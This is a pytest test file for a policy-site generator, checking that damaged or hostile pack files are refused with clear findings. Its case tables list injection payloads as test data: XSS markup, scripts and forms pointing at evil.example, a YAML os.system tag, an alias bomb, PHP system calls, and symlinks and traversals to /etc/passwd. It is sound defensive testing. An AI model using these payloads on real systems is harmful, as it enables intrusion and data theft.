"""Malformed input gets a clear finding, no traceback, and nothing of it is published.

Each case is a pack of its own, damaged on disk, in one store: that store is checked once and
built once, so that every case also shows that its neighbours were read all the same.
"""

import contextlib
import io
import json
import os
import re
import shutil
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from selectolax.lexbor import LexborHTMLParser

from generator.cli import main
from tests.stores import BASE, make_store, sign

AS_AT = ["--as-at", "2026-11-22"]
SOP = "sop-process.md"
OWN = "use-of-cameras"


@dataclass(frozen=True)
class Run:
    """What a command said and what it left behind."""

    status: int
    out: str
    err: str
    seconds: float

    @property
    def json(self):
        return json.loads(self.out)

    def state(self, pack):
        return next(p["state"] for p in self.json["packs"] if p["pack"] == pack)

    def findings(self, path):
        found = self.json["findings"]
        return [f for f in found if f["path"] == path or f["path"].startswith(f"{path}/")]


def run(*arguments):
    out, err = io.StringIO(), io.StringIO()
    before = time.monotonic()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        status = main([str(argument) for argument in arguments])
    return Run(status, out.getvalue(), err.getvalue(), time.monotonic() - before)


def check(root):
    return run("check", "--root", root, "--format", "json", *AS_AT)


def build(root, *options):
    return run("build", "--root", root, *AS_AT, *options)


# Cases


@dataclass(frozen=True)
class Case:
    """One thing damaged on disk, and the finding it should have.

    ``at`` is the text whose first line in ``file`` is the finding's line, or that line's number.
    """

    name: str
    damage: Callable[[Path], None]
    rule: str
    file: str = SOP
    at: bytes | int | None = None
    says: str = ""
    late: bool = False

    def __str__(self):
        return self.name


CASES = []


def case(name, damage, rule, file=SOP, **more):
    CASES.append(Case(name.replace(" ", "-"), damage, rule, file, **more))


def rewrite(file, change):
    def damage(pack):
        path = pack / file
        path.write_bytes(change(path.read_bytes()))

    return damage


def put(old, new, file=SOP):
    def change(data):
        assert data.count(old) >= 1, (file, old)
        return data.replace(old, new, 1)

    return rewrite(file, change)


def field(line, file=SOP):
    """Add a line to the front matter, right below the title's."""
    return rewrite(file, lambda data: re.sub(rb"\n(?=type: )", b"\n" + _plain(line), data, count=1))


def _plain(line):
    return (line + b"\n").replace(b"\\", rb"\\")


def body(text, file=SOP):
    """Add text to the end of the body."""
    return rewrite(file, lambda data: data + b"\n" + text + b"\n")


def whole(data, file=SOP):
    return lambda pack: (pack / file).write_bytes(data)


def extra(name, data=b"quorvath\n"):
    def damage(pack):
        path = pack / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)

    return damage


def replaced(name, make):
    def damage(pack):
        path = pack / name
        if path.is_dir():
            shutil.rmtree(path)
        else:
            path.unlink(missing_ok=True)
        make(path)

    return damage


TITLE = b"title: Use of cameras, the process"
MARKING = b"protective_marking: OFFICIAL"

# Front matter: YAML that others drop in silence
case("unclosed quote", put(TITLE, b'title: "Use of cameras'), "PS001", at=2)
case("tab in yaml", field(b"\tkeywords: x"), "PS001", at=b"\tkeywords")
case("unknown tag", put(TITLE, b"title: !secret Use"), "PS001", at=2, says="tag")
case("python object", put(TITLE, b"title: !!python/object/apply:os.system [id]"), "PS001", at=2,
     says="tag")  # fmt: skip
case("local tag on a key", field(b"!x keywords: [a]"), "PS001", at=b"!x", says="tag")
case("alias bomb", field(
    b"a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a]\nkeywords: [*b,*b,*b,*b]"
), "PS001", at=b"a: &a", says="anchor or alias")  # fmt: skip
case("merge key", field(b"<<: {protective_marking: OFFICIAL}"), "PS002", at=b"<<", says="<<")
case("merge of an alias", put(TITLE, b"<<: *base\n" + TITLE), "PS001", at=2, says="alias")
case("brackets 60,000 deep", field(b"keywords: " + b"[" * 60_000), "PS001", at=b"keywords")
case("brackets 100,000 deep in the record", put(
    b"registered_file: AP/RF/2026/0002", b"registered_file: " + b"[" * 100_000, "record.yml"
), "PS001", "record.yml", at=b"[[[", late=True)  # fmt: skip
case("brackets 30 deep", field(b"keywords: " + b"[" * 30 + b"]" * 30), "PS001", at=b"keywords",
     says="deep")  # fmt: skip
case("braces 30 deep", field(b"keywords: " + b"{a: " * 30 + b"}" * 30), "PS001", at=b"keywords",
     says="deep")  # fmt: skip
case("two documents", field(b"...\n--- {a: b}"), "PS001", says="more than one")
case("a directive", put(b"---\n", b"---\n%YAML 9.9\n"), "PS001", at=2)
case("huge scalar", put(TITLE, b"title: " + b"a" * 1_000_000), "PS001", at=1, says="64,000")
case("mapping of 5,000 keys", field(b"\n".join(b"k%d: v" % n for n in range(5_000))), "PS002",
     at=b"k0: v", says="k0")  # fmt: skip
case("mapping of 30,000 keys in the record", body(
    b"\n".join(b"k%d: v" % n for n in range(30_000)), "record.yml"
), "PS001", "record.yml", says="20000", late=True)  # fmt: skip
case("front matter missing", rewrite(SOP, lambda data: data.split(b"---\n")[2]), "PS001", at=1,
     says="does not begin with front matter")  # fmt: skip
case("front matter not ended", put(b"\n---\n", b"\n"), "PS001", at=1, says="does not end")
case("front matter ended by dots", put(b"\n---\n", b"\n...\n"), "PS001", at=1)
case("front matter fenced by four", rewrite(SOP, lambda data: b"-" + data), "PS001", at=1)
case("blank line before front matter", rewrite(SOP, lambda data: b"\n" + data), "PS001", at=1)
case("front matter in toml", rewrite(
    SOP, lambda data: data.replace(b"---\n", b"+++\n").replace(b": ", b" = ")
), "PS001", at=1)  # fmt: skip
case("front matter of javascript", put(b"---\n", b"---js\n"), "PS001", at=1)
case("front matter that is a list", whole(b"---\n- a\n- b\n---\n\n## Introduction\n\nWords.\n"),
     "PS001", at=2, says="key: value")  # fmt: skip
case("front matter that is one word", whole(b"---\nwords\n---\n\nWords.\n"), "PS001", at=2)
case("front matter that is blank", whole(b"---\n\n---\n\nWords.\n"), "PS001")
case("nothing but a fence", whole(b"---"), "PS001", at=1)
case("nothing but a fence and a line end", whole(b"---\n"), "PS001", at=1)
case("nothing but two fences", whole(b"---\n---\n"), "PS001")
case("empty file", whole(b""), "PS001", at=1, says="empty")
case("empty policy", whole(b"", "policy.md"), "PS001", "policy.md", at=1, says="empty")

# Front matter: fields
case("date 2024-13-45", put(b"review_by: 2029-08-01", b"review_by: 2024-13-45", "policy.md"),
     "PS002", "policy.md", at=b"review_by", says="no date")  # fmt: skip
case("date 2026-02-30", put(b"completed_on: 2026-05-01", b"completed_on: 2026-02-30", "eia.md"),
     "PS002", "eia.md", at=b"completed_on", says="no date")  # fmt: skip
case("date with a time", put(b"review_by: 2029-08-01", b"review_by: 2029-08-01T00:00:00Z",
     "policy.md"), "PS002", "policy.md", at=b"review_by", says="no date")  # fmt: skip
case("date in other digits", put(
    b"review_by: 2029-08-01", "review_by: ٢٠٢٩-٠٨-٠١".encode(), "policy.md"
), "PS002", "policy.md", at=b"review_by", says="no date")  # fmt: skip
case("date far away", put(b"review_by: 2029-08-01", b"review_by: 9999-12-31", "policy.md"),
     "PS407", "policy.md", at=b"review_by")  # fmt: skip
case("publication in the year 1", put(b"publish_on: 2026-08-01", b"publish_on: 0001-01-01",
     "record.yml"), "PS309", "record.yml", late=True)  # fmt: skip
case("marking given twice", put(MARKING, b"protective_marking: RESTRICTED\n" + MARKING), "PS001",
     at=MARKING, says="twice")  # fmt: skip
case("marking given twice, the other way", put(MARKING, MARKING + b"\nprotective_marking: SECRET"),
     "PS001", at=b"protective_marking: SECRET", says="twice")  # fmt: skip
case("marking given twice, once in quotes", put(MARKING, MARKING + b'\n"protective_marking": SECRET'),
     "PS001", at=b'"protective_marking"', says="twice")  # fmt: skip
case("key given twice, blank first", put(MARKING, b"protective_marking:\n" + MARKING), "PS001",
     at=MARKING, says="twice")  # fmt: skip
case("unknown key", put(b"summary:", b"sumary:"), "PS002", at=b"sumary", says="did you mean `summary`")
case("marking under another name", put(MARKING, b"marking: RESTRICTED"), "PS002", at=b"marking:",
     says="did you mean `protective_marking`")  # fmt: skip
case("key with a Cyrillic letter", put(MARKING, "protectіve_marking: SECRET\n".encode() + MARKING),
     "PS002", at="protectіve".encode(), says="did you mean `protective_marking`")  # fmt: skip
case("key in capitals", field(b"Protective_Marking: SECRET"), "PS002", at=b"Protective_M",
     says="protective_marking")  # fmt: skip
case("draft is true", field(b"draft: true"), "PS002", at=b"draft: true", says="draft")
case("public is true", field(b"public: true"), "PS002", at=b"public: true", says="public")
case("decision is true", put(b"public: yes", b"public: true", "record.yml"), "PS002",
     "record.yml", at=b"sop-process.md: {public", says="yes", late=True)  # fmt: skip
case("title is a list", put(TITLE, b"title: [Use, of, cameras]"), "PS002", at=2, says="one value")
case("title is a mapping", put(TITLE, b"title: {a: b}"), "PS002", at=2, says="one value")
case("title is null", put(TITLE, b"title: ~"), "PS002", at=2, says="title")
case("title is blank", put(TITLE, b'title: "  "'), "PS002", at=2, says="title")
case("keywords is one word", field(b"keywords: cameras"), "PS002", at=b"keywords", says="a list")
case("type of another document", put(b"type: sop", b"type: page"), "PS002", at=b"type: page",
     says="sop")  # fmt: skip
case("status unknown", put(b"status: final", b"status: published"), "PS002", at=b"status")
case("reference that climbs", put(b"reference: SOP-", b"reference: ../../SOP-"), "PS002",
     at=b"reference", says="reference")  # fmt: skip
case("a number of 5,000 digits", put(b"assessed_version: 1", b"assessed_version: " + b"1" * 5_000,
     "eia.md"), "PS002", "eia.md", at=b"assessed_version")  # fmt: skip
case("impacts is a list", put(b"  age: none", b"  - age", "eia.md"), "PS001", "eia.md")
case("impact unknown", put(b"  age: none", b"  age: perhaps", "eia.md"), "PS002", "eia.md",
     at=b"  age: perhaps")  # fmt: skip

# The record
case("record is a list", whole(b"- stage: implementation\n", "record.yml"), "PS001", "record.yml",
     at=1, says="key: value", late=True)  # fmt: skip
case("record is a word", whole(b"implementation\n", "record.yml"), "PS001", "record.yml", at=1,
     late=True)  # fmt: skip
case("record is empty", whole(b"", "record.yml"), "PS001", "record.yml", late=True)
case("record is broken", put(b"quality_assurance:", b"quality_assurance: [", "record.yml"),
     "PS001", "record.yml", late=True)  # fmt: skip
case("record is missing", lambda pack: (pack / "record.yml").unlink(), "PS002", "record.yml",
     says="is not there", late=True)  # fmt: skip
case("record is not UTF-8", whole(b"stage: impl\xe9mentation\n", "record.yml"), "PS001",
     "record.yml", at=1, says="0xe9", late=True)  # fmt: skip
case("stage twice", put(b"stage: implementation", b"stage: development\nstage: implementation",
     "record.yml"), "PS001", "record.yml", at=2, says="twice", late=True)  # fmt: skip
case("stage in capitals", put(b"stage: implementation", b"stage: Development", "record.yml"),
     "PS002", "record.yml", at=1, says="stage", late=True)  # fmt: skip
case("stage missing", put(b"stage: implementation\n", b"", "record.yml"), "PS002", "record.yml",
     says="stage", late=True)  # fmt: skip
case("date of publication impossible", put(b"publish_on: 2026-08-01", b"publish_on: 2026-02-30",
     "record.yml"), "PS002", "record.yml", at=b"publish_on", late=True)  # fmt: skip
case("sign-off of a file outside", put(b"      workbook.md:", b"      ../../x/v1/policy.md:",
     "record.yml"), "PS004", "record.yml", says="out of the pack", late=True)  # fmt: skip

# Bytes
case("not UTF-8", body(b"Caf\xe9"), "PS001", at=b"Caf\xe9", says="0xe9")
case("UTF-16", rewrite(SOP, lambda data: data.decode().encode("utf-16")), "PS001", at=1,
     says="not UTF-8")  # fmt: skip
case("UTF-16 without a mark", rewrite(SOP, lambda data: data.decode().encode("utf-16-le")),
     "PS001", at=1)  # fmt: skip
case("NUL", body(b"A\x00B"), "PS001", at=b"A\x00B", says="U+0000")
case("NUL in front matter", put(TITLE, TITLE + b"\x00"), "PS001", at=2)
case("bidirectional override", body("user‮txt.exe".encode()), "PS001", at="‮".encode(),
     says="U+202E")  # fmt: skip
case("bidirectional isolate in the title", put(TITLE, TITLE + "⁦x".encode()), "PS001", at=2,
     says="U+2066")  # fmt: skip
case("terminal escape", body(b"\x1b[2Jcleared"), "PS001", at=b"\x1b", says="U+001B")
case("lone carriage return", body(b"one\rtwo"), "PS001", at=b"one\r", says="U+000D")
case("zero width space in a word", body("RESTR​ICTED".encode()), "PS001", at="​".encode(),
     says="U+200B")  # fmt: skip
case("tag characters", body("a\U000e0041\U000e0042".encode()), "PS001", says="tag characters")
case("overlong UTF-8", body(b"\xc0\xaf"), "PS001", at=b"\xc0\xaf", says="0xc0")
case("surrogates", body(b"\xed\xa0\x80"), "PS001", at=b"\xed\xa0", says="0xed")
case("10 MB", body(b"word " * 2_000_000), "PS001", at=1, says="2,000,000")

# Names
for spare in ("policy.yml", "policy.md.bak", "~$lock.docx", "policy.MD", ".DS_Store", "Thumbs.db",
              "policy (2).md", "notes.txt", "sop-Process.md", "sop-procès.md", "sop-.md",
              "sop-a_b.md", "README.md", "POLICY.MD", "record.yaml", "withdrawn.yml"):  # fmt: skip
    case(f"spare file {spare}", extra(spare), "PS004", spare)
for spare in ("templates/base.html", ".hidden/policy.md", ".git/config", "v1/policy.md",
              "attachments/deep/map.png", "attachments/.map.png", "Attachments/map.png"):  # fmt: skip
    folder = spare if "/." in spare else spare.rpartition("/")[0]
    case(f"spare folder {spare}", extra(spare), "PS004", folder)
case("statement in capitals only", lambda pack: (pack / "policy.md").rename(pack / "policy.MD"),
     "PS004", "policy.MD")  # fmt: skip
case("a name of newlines", extra("sop-a\n::error::b.md"), "PS004", "sop-a\n::error::b.md")
case("a name that is not UTF-8", lambda pack: Path(os.fsdecode(os.fsencode(pack) + b"/caf\xe9.md"))
     .write_bytes(b"quorvath\n"), "PS004", "")  # fmt: skip
case("attachments is a file", extra("attachments"), "PS004", "attachments")
case("a folder named policy.md", replaced("policy.md", Path.mkdir), "PS004", "policy.md",
     says="folder")  # fmt: skip
case("a folder named record.yml", replaced("record.yml", Path.mkdir), "PS004", "record.yml",
     says="folder", late=True)  # fmt: skip
case("a pipe", replaced(SOP, os.mkfifo), "PS004", says="special file")
case("a pipe beside", lambda pack: os.mkfifo(pack / "sop-more.md"), "PS004", "sop-more.md")
case("a pipe as an attachment", lambda pack: ((pack / "attachments").mkdir(),
     os.mkfifo(pack / "attachments/a.png")), "PS004", "attachments/a.png")  # fmt: skip

# Links on disk: none is followed
case("symbolic link to a file outside", replaced(SOP, lambda p: p.symlink_to("/etc/passwd")),
     "PS004", says="symbolic link")  # fmt: skip
case("symbolic link to a document", replaced(SOP, lambda p: p.symlink_to(
     f"../../{OWN}/v1/{SOP}")), "PS004", says="symbolic link")  # fmt: skip
case("symbolic link, dangling", replaced(SOP, lambda p: p.symlink_to("nowhere.md")), "PS004")
case("symbolic link, a loop", replaced(SOP, lambda p: p.symlink_to(SOP)), "PS004")
case("symbolic link for the record", replaced("record.yml", lambda p: p.symlink_to(
     f"../../{OWN}/v1/record.yml")), "PS004", "record.yml", says="symbolic link",
     late=True)  # fmt: skip
case("symbolic link for attachments", replaced("attachments", lambda p: p.symlink_to("/etc")),
     "PS004", "attachments", says="symbolic link")  # fmt: skip
case("symbolic link among attachments", lambda pack: ((pack / "attachments").mkdir(),
     (pack / "attachments/a.txt").symlink_to("/etc/passwd")), "PS004", "attachments/a.txt",
     says="symbolic link")  # fmt: skip

# Markup that runs, or leaves
for name, markup in {
    "script": "<script>alert(1)</script>",
    "script in a paragraph": "Words <script src=https://evil.example/x.js></script> words",
    "script in capitals": "<ScRiPt>alert(1)</sCrIpT>",
    "handler": '<b onclick="alert(1)">words</b>',
    "handler on an allowed tag": "<li onmouseover=alert(1)>words</li>",
    "image handler": "<img src=x onerror=alert(1)>",
    "svg": "<svg onload=alert(1)>",
    "math": "<math><mi//xlink:href=javascript:alert(1)>",
    "form": '<form action="https://evil.example/"><input name=a></form>',
    "base": '<base href="https://evil.example/">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "object": '<object data="x.swf"></object>',
    "style": "<style>* {display: none}</style>",
    "style attribute": '<i style="position: fixed">words</i>',
    "link element": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "custom element": "<x-y>words</x-y>",
    "anchor element": '<a href="javascript:alert(1)">words</a>',
    "details": "<details open ontoggle=alert(1)>",
    "in a heading": "## Words <script>alert(1)</script>",
    "in a table": "| a | b |\n| --- | --- |\n| <script>alert(1)</script> | c |",
    "in a list": "- <script>alert(1)</script>",
    "in a quotation": "> <iframe src=x>",
    "in a footnote": "Words.[^9]\n\n[^9]: <script>alert(1)</script>",
    "processing instruction": "<?php system('id') ?>",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "doctype": "<!DOCTYPE html>",
    "comment ended twice": "<!--> <script>alert(1)</script> -->",
    "javascript link": "[words](javascript:alert(1))",
    "javascript link in capitals": "[words](JaVaScRiPt:alert(1))",
    "javascript link by entity": "[words](javascript&#58;alert(1))",
    "javascript link by reference": "[words][ref]\n\n[ref]: javascript:alert(1)",
    "javascript autolink": "<javascript:alert(1)>",
    "vbscript link": "[words](vbscript:msgbox(1))",
    "data link": "[words](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data image": "![words](data:image/svg+xml;base64,PHN2Zz4=)",
    "remote image": "![words](https://evil.example/pixel.png)",
    "link without a scheme": "[words](//evil.example/)",
    "link by http": "[words](http://evil.example/)",
    "link to a file": "[words](file:///etc/passwd)",
    "link by ftp": "[words](ftp://evil.example/)",
    "link with a user": "[words](https://police.example@evil.example/)",
    "link with a back-slash": "[words](\\\\\\\\server\\\\share)",
    "link to a look-alike host": "[words](https://pоlice.example/)",
    "letter with a copy": "[words](mailto:a@police.example?bcc=b@evil.example)",
    "include by snippet": "--8<-- \"/etc/passwd\"",
    "include by block": "--8<--\n../../../scheme.yml\n--8<--",
    "include by template": "{% include '/etc/passwd' %}",
    "include by markdown-include": "{!../../../scheme.yml!}",
    "attributes in brackets": "Words\n{: onclick=alert(1) }",
    "attributes after a heading": "### Words {: #x onclick=alert(1) }",
    "attributes after a link": "[words](policy.md){onclick=alert(1)}",
}.items():  # fmt: skip
    case(f"markup {name}", body(markup.encode()), "PS008", at=-1)

# Links that lead nowhere
for name, target in {
    "to nothing": "nothing.md",
    "to no heading": "policy.md#nothing",
    "to no heading here": "#nothing",
    "absolute": "/policies/found-property/",
    "to the password file": "../../../etc/passwd",
    "far out of the store": "../../../../../../../../etc/passwd",
    "out of the store by escapes": "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "to the settings": "../../../scheme.yml",
    "to the record": "record.yml",
    "to another record": f"../../{OWN}/v1/record.yml",
    "to a folder": "attachments/",
    "to no attachment": "attachments/map.png",
    "to no policy": "../../no-such-policy/",
    "to no version": "../v9/policy.md",
    "with a question mark": "policy.md?plain=1",
}.items():
    case(f"link {name}", body(f"[words]({target})".encode()), "PS006", at=-1)
case("image that is not there", body(b"![words](attachments/map.png)"), "PS006", at=-1)
case("image that is a document", body(b"![words](policy.md)"), "PS006", at=-1)

# Deep or long: over a limit, whatever it would cost to convert
case("lists 400 deep", body(b"\n".join(b"  " * n + b"- x" for n in range(400))), "PS001",
     says="deep")  # fmt: skip
case("quotations 2,000 deep", body(b"> " * 2_000 + b"x"), "PS001", says="deep")
case("lists 60 deep on one line", body(b"- " * 60 + b"x"), "PS001", says="deep")


def token(item):
    return f"quorvath{CASES.index(item):04d}x"


def clone(root, owner, number, word):
    """Add a policy like the base store's, with references, titles and a sentence of its own."""
    pack = root / "policies" / owner / "v1"
    shutil.copytree(BASE / "policies" / OWN / "v1", pack)
    for path in sorted(pack.glob("*.md")):
        text = path.read_text("utf-8").replace("-0002", f"-{number:04d}")
        text = text.replace("title: Use of cameras\n", f"title: Use of cameras {number}\n", 1)
        path.write_text(f"{text}\nThe {word} lantern keeps watch over the quay.\n", "utf-8")
    return pack


@pytest.fixture(scope="module")
def harmed(tmp_path_factory):
    """The base store with a damaged policy for each case."""
    root = make_store(tmp_path_factory.mktemp("malformed") / "store")
    for number, item in enumerate(CASES):
        pack = clone(root, f"case-{number:03d}", 1000 + number, token(item))
        if not item.late:
            item.damage(pack)
    sign(root)
    for number, item in enumerate(CASES):
        if item.late:
            item.damage(root / f"policies/case-{number:03d}/v1")
    return root


@pytest.fixture(scope="module")
def checked(harmed):
    return check(harmed)


@pytest.fixture(scope="module")
def built(harmed, checked):
    return build(harmed, "--withhold-refused")


@pytest.fixture(scope="module")
def output(harmed, built):
    """Every byte below the output folder, names of files as well."""
    site = harmed / "site"
    return b"\n".join(
        os.fsencode(path.relative_to(site)) + b"\n" + (path.read_bytes() if path.is_file() else b"")
        for path in sorted(site.rglob("*"))
    )


def line_of(path, at):
    """Return the line of a text's first place in a file (-1: of the last line but blank ones)."""
    data = path.read_bytes()
    if at == -1:
        data, at = data.rstrip(), b"\n"
        return range(data[: data.rindex(at * 2)].count(b"\n") + 1, data.count(b"\n") + 3)
    if isinstance(at, int):
        return range(at, at + 1)
    line = data[: data.index(at)].count(b"\n") + 1
    return range(line, line + 1)


@pytest.mark.parametrize("item", CASES, ids=str)
def test_each_fault_is_found_where_it_stands_and_its_pack_refused(item, harmed, checked):
    pack = f"policies/case-{CASES.index(item):03d}/v1"
    assert checked.state(pack) == "refused"
    found = checked.findings(pack)
    path = f"{pack}/{item.file}".rstrip("/")
    mine = [f for f in found if f["rule"] == item.rule and (f["path"] == path or not item.file)]
    assert mine, found
    assert any(item.says in f["message"] + f["fix"] for f in mine), mine
    if item.at is not None:
        lines = line_of(harmed / pack / item.file, item.at)
        assert any(f["line"] in lines for f in mine), (mine, lines)
    for finding in found:
        assert finding["message"]
        assert finding["fix"]
        assert finding["role"]
        assert finding["clause"]
